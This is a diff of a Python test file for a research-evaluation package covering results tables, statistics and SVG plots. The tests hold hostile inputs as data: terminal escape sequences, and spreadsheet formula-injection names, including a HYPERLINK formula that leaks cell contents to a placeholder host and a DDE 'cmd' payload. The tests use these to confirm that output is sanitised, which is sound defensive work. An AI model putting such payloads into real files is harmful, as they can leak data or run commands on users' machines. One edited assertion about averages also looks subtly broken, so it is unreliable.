@@ -6,11 +6,8 @@ import json
 import math
 import random
 import re
-import shutil
-import subprocess
 import xml.etree.ElementTree as ElementTree
 from dataclasses import replace
-from functools import cache
 from statistics import mean
 
 import pytest
@@ -18,7 +15,6 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from prompt_r1.cli.markdown import markdown_table
-from prompt_r1.config.methods import METHODS
 from prompt_r1.evaluation import paper_numbers
 from prompt_r1.evaluation.aggregate import score_predictions
 from prompt_r1.evaluation.comparison import Comparison, compare_systems, comparison_table
@@ -30,8 +26,7 @@ from prompt_r1.evaluation.results_folder import (
     results_table,
     write_results,
 )
-from prompt_r1.evaluation.systems import WITHOUT_ENVIRONMENT
-from prompt_r1.evaluation.tables import Entry, Table, rates_to_csv, to_csv, to_latex, to_markdown
+from prompt_r1.evaluation.tables import Entry, Table, rates_to_csv, to_markdown
 from prompt_r1.metrics.statistics import macro_interval, wilson
 from prompt_r1.report.svg import Plot, Point, Series, svg
 from tests.evaluation.predictions import DIRECT, predict, predict_all, question_of
@@ -51,7 +46,7 @@ def test_the_averages_in_the_paper_are_the_means_of_its_columns():
         for column in paper_numbers.COLUMNS:
             numbers = [paper_numbers.main_result(column, name, metric) for name in datasets]
             found = mean(number for number in numbers if number is not None)
-            assert found == pytest.approx(paper_numbers.average(column, datasets, metric), abs=0.0101)
+            assert found == pytest.approx(paper_numbers.main_result(column, datasets, metric), abs=0.0101)
 
 
 def test_the_tables_of_the_paper_agree_where_they_overlap():
@@ -116,7 +111,6 @@ def test_every_format_of_a_table_shows_failed_calls():
     header, _, row = cells_of(to_markdown(table))[:3]
     assert header[2:] == ["direct", "cot"]
     assert row[2].endswith("] (n 3, 1 errors)") and row[3].endswith("]")
-    assert "]} (n 3, 1 errors) & " in to_latex(table)
     rates = [
         rate for rate in csv.DictReader(rates_to_csv([table]).splitlines()) if rate["row"].endswith("EM")
     ]
@@ -153,7 +147,7 @@ def test_the_interval_of_only_zeros_has_a_width():
     assert rate.mean == 0 and 0.08 < rate.high < 0.13
 
 
-def test_ssim_is_measured_for_texts_and_the_table_says_when_it_was_not():
+def test_ssim_is_measured_for_texts_and_the_table_says_when_it_was_not(tmp_path):
     rows = predict_all({"XSum": [True, False], "PopQA": [True, False]})
 
     def similarity(predictions, answers):
@@ -163,9 +157,23 @@ def test_ssim_is_measured_for_texts_and_the_table_says_when_it_was_not():
     with_ssim, without = score_predictions(rows, similarity=similarity), score_predictions(rows)
     assert with_ssim.rate(DIRECT, "XSum", "ssim").mean == pytest.approx(0.7)
     assert with_ssim.rate(DIRECT, "PopQA", "ssim") is None and without.rate(DIRECT, "XSum", "ssim") is None
-    texts = ["\n".join(map(to_markdown, paper_tables(results, {}))) for results in (with_ssim, without)]
+    texts = []
+    for results in (with_ssim, without):
+        write_results(tmp_path, results, {})
+        texts.append((tmp_path / "tables.md").read_text("utf-8"))
     assert "SSim was not measured" not in texts[0] and "| XSum (n = 2) | SSim | **70.0** [" in texts[0]
     assert "SSim was not measured" in texts[1] and "| SSim |" not in texts[1]
+
+
+def test_a_text_whose_call_failed_is_not_measured_by_ssim():
+    def similarity(predictions, answers):
+        return [0.9 if prediction else 0.0 for prediction in predictions]
+
+    text = question_of(7, dataset="XSum", kind="text")
+    failed = predict(question=text, answer=None, error="HTTP 500")
+    results = score_predictions([*predict_all({"XSum": [True]}), failed], similarity=similarity)
+    rate = results.rate(DIRECT, "XSum", "ssim")
+    assert (rate.mean, rate.n, rate.errors) == (0.9, 1, 1)
 
 
 def test_repeated_answers_are_compared_by_sign_flips_instead_of_mcnemar():
@@ -263,20 +271,6 @@ def test_the_papers_numbers_are_shown_with_its_environments_only():
     assert transfer.keys() == {("gpt-4o-mini alone",)}, "it is unknown how runs/a was trained"
 
 
-def test_csv_and_latex_agree_with_the_markdown():
-    rows = predict_all(drawn(1, 0.5), System("direct", "gpt-4o-mini"))
-    rows += predict_all(drawn(2, 0.9), System("prompt-r1", "gpt-4o-mini", "runs/a_1"))
-    table = paper_tables(score_predictions(rows), {"runs/a_1": "gpt-4o-mini"})[0]
-    values = {tuple(row[:2]): row[2:] for row in csv.reader(to_csv(table).splitlines())}
-    right = sum(drawn(1, 0.5)["GSM8K"])
-    assert float(values["GSM8K (n = 16)", "EM"][0]) == pytest.approx(100 * right / 16, abs=1e-3)
-    assert values["", "EM, paper"][1] == "44.01"  # the last such line is the average's
-    text = to_latex(table)
-    body = text[text.index(r"\midrule") : text.index(r"\bottomrule")]
-    assert all(line.count(" & ") == 5 for line in body.splitlines()[1:])
-    assert rf"{100 * right / 16:.2f} {{\tiny [" in text and "runs/a_1" not in text
-
-
 AWKWARD = r"50%|a_b & {c} #1 $2 ~x ^y \z"
 
 
@@ -303,72 +297,11 @@ def test_a_pipe_in_the_name_of_a_dataset_or_agent_does_not_break_the_lists():
     ]
     results = score_predictions(rows)
     comparisons = compare_systems((results, full), (results, DIRECT))
-    texts = results_table(results), comparison_table(comparisons, "1|2", "2")
+    texts = results_table(results), comparison_table(comparisons, row_heading="1|2")
     for text in texts:
         assert len({len(re.findall(r"(?<!\\)\|", line)) for line in text.splitlines()}) == 1
         assert r"| a\|b |" in text
     assert r"runs/x\|y" in texts[0] and r"| 1\|2 |" in texts[1]
-
-
-def test_special_characters_are_escaped_in_latex():
-    """For example, an unescaped % would comment out the rest of a row."""
-    row, column = (AWKWARD,), (AWKWARD,)
-    text = to_latex(
-        Table("t", AWKWARD, (AWKWARD,), [row], [column], {(row, column): Entry(number=1, paper=2)})
-    )
-    escaped = r"50\%|a\_b \& \{c\} \#1 \$2 \textasciitilde{}x \textasciicircum{}y \textbackslash{}z"
-    assert text.count(escaped) == 5  # caption, head, column, and the row twice: ours and the paper's
-    assert "50%" not in text
-
-
-@cache
-def all_tables() -> list[Table]:
-    """The paper's tables with all methods, two environments and two agents."""
-    trained, rows = {"runs/a": "gpt-4o-mini", "runs/b": "gpt-oss-20b"}, []
-    for environment in trained.values():
-        for method in METHODS:
-            if rows and method in WITHOUT_ENVIRONMENT and environment != "gpt-4o-mini":
-                continue
-            without = method in WITHOUT_ENVIRONMENT
-            agents = (
-                ("runs/a", "runs/b")
-                if method == "prompt-r1"
-                else ("start",)
-                if method == "untrained"
-                else ("",)
-            )
-            for agent in agents:
-                rows += predict_all(
-                    drawn(len(rows), 0.4), System(method, "" if without else environment, agent)
-                )
-    return paper_tables(score_predictions(rows), trained)
-
-
-def test_no_latex_table_has_many_columns():
-    """A table with all datasets as columns was 770 points wider than the page."""
-    tables = {table.name: table for table in all_tables()}
-    for table in tables.values():
-        columns = [line.count(" & ") for line in to_latex(table).splitlines() if line.endswith(r" \\")]
-        assert max(columns) <= 7, table.name
-    wide = to_latex(tables["table2"])
-    assert [wide.count(f"({number} of 3)") for number in (1, 2, 3)] == [1, 1, 1]
-    row = next(line for line in to_latex(tables["table4"]).splitlines() if line.startswith("HotpotQA"))
-    full = tables["table4"].entry(("Prompt-R1 (Full)",), ("HotpotQA (n = 16)", "EM"))
-    assert row.startswith("HotpotQA (n = 16) & EM & ") and f"{100 * full.rate.mean:.2f}" in row
-
-
-@pytest.mark.skipif(shutil.which("pdflatex") is None, reason="pdflatex is absent")
-@pytest.mark.parametrize("document", ["article", "[twocolumn]{article}"])
-def test_every_latex_table_fits_on_its_page(tmp_path, document):
-    name = document if document.startswith("[") else f"{{{document}}}"
-    body = "\n\\clearpage\n".join(map(to_latex, all_tables()))
-    source = rf"\documentclass{name}\usepackage{{booktabs,graphicx}}\begin{{document}}{body}\end{{document}}"
-    (tmp_path / "tables.tex").write_text(source.replace("% Needs", "\n% Needs"), "utf-8")
-    command = ["pdflatex", "-interaction=nonstopmode", "-halt-on-error", "tables.tex"]
-    run = subprocess.run(command, cwd=tmp_path, capture_output=True, text=True, timeout=60)
-    assert run.returncode == 0, run.stdout[-2_000:]
-    log = (tmp_path / "tables.log").read_text("latin-1")
-    assert not re.findall(r"Overfull|too large|undefined", log)
 
 
 HOSTILE = "t\x1b[2J\x1b]0;owned\a\u202eabc\u200b\x85\u2028\nx|y"
@@ -382,7 +315,7 @@ def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tmp
     rows += predict_all({HOSTILE: [False] * 8, "b": [False]})
     text = write_results(tmp_path, score_predictions(rows), {})
     written = {path.name: path.read_text("utf-8") for path in tmp_path.iterdir()}
-    assert {"table2.tex", "table2.csv", "cells.csv", "tables.md", "cost.svg"} <= written.keys()
+    assert {"cells.csv", "tables.md", "cost.svg"} <= written.keys()
     for name, content in [("printed", text), *written.items()]:
         hidden = {letter for letter in content if not letter.isprintable() and letter != "\n"}
         assert not hidden, f"{name}: {hidden}"
@@ -391,7 +324,7 @@ def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tmp
     for table in (written["results.md"], written["tables.md"]):
         lines = [line for line in table.splitlines() if line.startswith("|")]
         assert lines and all(line.endswith("|") for line in lines)
-    rows_of_csv = list(csv.reader(written["table2.csv"].splitlines()))
+    rows_of_csv = list(csv.reader(written["cells.csv"].splitlines()))
     assert len({len(row) for row in rows_of_csv}) == 1
 
 
@@ -399,11 +332,6 @@ def test_names_of_datasets_and_agents_cannot_move_the_cursor_or_reorder_text(tmp
     "name", ['=HYPERLINK("http://x/"&A1)', "+1", "-1+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1"]
 )
 def test_a_name_cannot_become_a_formula_of_a_spreadsheet(name):
-    entries = {((name, "EM"), (name,)): Entry(number=-1.5)}
-    table = Table(name, "T", (name, "metric"), [(name, "EM")], [(name,)], entries)
-    [header, row] = csv.reader(to_csv(table).splitlines())
-    shown = "'" + name.replace("\t", " ")
-    assert header == [shown, "metric", shown] and row == [shown, "EM", "-1.5"]
     results = score_predictions(predict_all({name: [True]}))
     for cells in csv.reader(rates_to_csv(paper_tables(results, {})).splitlines()):
         assert not any(cell.strip().startswith(("=", "+", "-", "@")) for cell in cells)
@@ -421,7 +349,7 @@ def test_128_questions_are_too_few_for_the_gain_on_popqa_in_the_paper():
     """28.13 against 25.78 is 36 against 33 correct answers; with no loss, McNemar's exact p is 0.25."""
     one = compare([True] * 36 + [False] * 92, [True] * 33 + [False] * 95)
     assert one.difference == pytest.approx(0.0234, abs=1e-4) and one.p == pytest.approx(0.25)
-    assert one.verdict == f"no difference beyond ±{100 * one.high:.1f} shown"
+    assert one.verdict == f"within ±{100 * one.high:.1f}"
 
 
 def test_the_gain_on_2wiki_in_the_paper_is_significant_even_with_seven_losses():
@@ -434,9 +362,9 @@ def test_the_gain_on_2wiki_in_the_paper_is_significant_even_with_seven_losses():
     ("p", "low", "high", "verdict"),
     [
         (0.04, 0.01, 0.2, "significant"),
-        (0.06, -0.01, 0.05, "no difference beyond ±5.0 shown"),
-        (0.06, -0.123, 0.05, "no difference beyond ±12.3 shown"),
-        (1.0, -math.inf, math.inf, "no difference beyond ±100.0 shown"),
+        (0.06, -0.01, 0.05, "within ±5.0"),
+        (0.06, -0.123, 0.05, "within ±12.3"),
+        (1.0, -math.inf, math.inf, "within ±100.0"),
     ],
 )
 def test_the_verdict_follows_from_the_corrected_p_and_the_interval(p, low, high, verdict):
@@ -490,38 +418,24 @@ def test_holm_corrects_over_the_datasets_and_the_pooled_comparison_weights_them_
 # --- The folder -------------------------------------------------------------------------------------------
 
 
-def test_the_plot_places_the_points_by_cost_and_quality_and_names_them():
+def test_the_plot_places_the_points_by_cost_and_quality():
     series = [
         Series("direct & co", [Point(1.0, 0.2, 0.1, 0.3, 10)]),
         Series("agent", [Point(3.7, 0.9, 0.8, 0.95, 10)]),
         Series("same", [Point(3.7, 0.9, 0.8, 0.95, 10)]),
     ]
-    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", series, names_at_points=True)))
+    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", series)))
     circles = [item for item in root.iter() if item.tag.endswith("circle")]
     (x1, y1), (x2, y2), (x3, _) = [(float(item.get("cx")), float(item.get("cy"))) for item in circles]
     assert x1 < x2 and y1 > y2 and x3 - x2 >= 4, "equal points hide each other"
-    texts = {item.text: item for item in root.iter() if item.tag.endswith("text")}
-    assert "direct & co  0.200" in texts
-    heights = [float(texts[name].get("y")) for name in ("agent  0.900", "same  0.900")]
-    assert abs(heights[0] - heights[1]) >= 12, "names at the same height overlap"
-
-
-def test_a_name_that_would_cover_a_point_on_its_right_stands_on_the_left():
-    points = {"blind": Point(9.0, 0.97, 0.9, 1.0, 10), "last": Point(10.0, 0.97, 0.9, 1.0, 10)}
-    series = [Series(name, [point]) for name, point in points.items()]
-    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", series, names_at_points=True)))
-    x1, x2 = (float(item.get("cx")) for item in root.iter() if item.tag.endswith("circle"))
-    texts = {item.text: item for item in root.iter() if item.tag.endswith("text")}
-    left, right = texts["blind  0.970"], texts["last  0.970"]
-    assert left.get("text-anchor") == "end" and float(left.get("x")) < x1
-    assert right.get("text-anchor") == "start" and float(right.get("x")) > x2
+    assert "direct & co" in [item.text for item in root.iter() if item.tag.endswith("text")]
 
 
 @pytest.mark.parametrize(("low", "high"), [(-0.2, 1.1), (-math.inf, math.inf)])
 def test_an_interval_beyond_the_axis_ends_at_the_frame(low, high):
     """The first is a bootstrap of few questions, the second that of a single one that is half right."""
     wide = [Series("wide", [Point(1.0, 0.5, low, high, 1)])]
-    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", wide, names_at_points=True)))
+    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", wide)))
     lines = [item for item in root.iter() if item.tag.endswith("}line")]
     grid = [float(line.get("y1")) for line in lines if line.get("y1") == line.get("y2")]
     [interval] = [line for line in lines if line.get("opacity")]
@@ -530,7 +444,7 @@ def test_an_interval_beyond_the_axis_ends_at_the_frame(low, high):
 
 def test_a_system_that_makes_no_calls_is_at_the_left_edge():
     free = [Series("free", [Point(0.0, 0.5, 0.4, 0.6, 10)])]
-    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", free, names_at_points=True)))
+    root = ElementTree.fromstring(svg(Plot("costs", "calls", "EM", free)))
     zero = next(
         item
         for item in root.iter()
@@ -546,7 +460,7 @@ def test_a_cost_of_any_size_has_round_and_evenly_spaced_ticks(mantissa, exponent
     cost = min(max(mantissa * 10.0**exponent, 1e-12), 1e12)
     cost = float(math.ceil(cost)) if whole else cost
     priced = [Series("one", [Point(cost, 0.5, 0.4, 0.6, 10)])]
-    root = ElementTree.fromstring(svg(Plot("costs", "$", "EM", priced, names_at_points=True)))
+    root = ElementTree.fromstring(svg(Plot("costs", "$", "EM", priced)))
     ticks = [item for item in root.iter() if item.get("text-anchor") == "middle"]
     values = [float(item.text) for item in ticks]
     assert 2 <= len(values) <= 10 and values[0] == 0 and values[-1] <= 1.03 * cost
@@ -567,8 +481,6 @@ def test_a_plot_that_cannot_be_drawn_loses_no_other_file(usd, tmp_path):
         "tables.md",
         "cells.csv",
         "comparisons.md",
-        "table2.csv",
-        "table2.tex",
     }
 
 
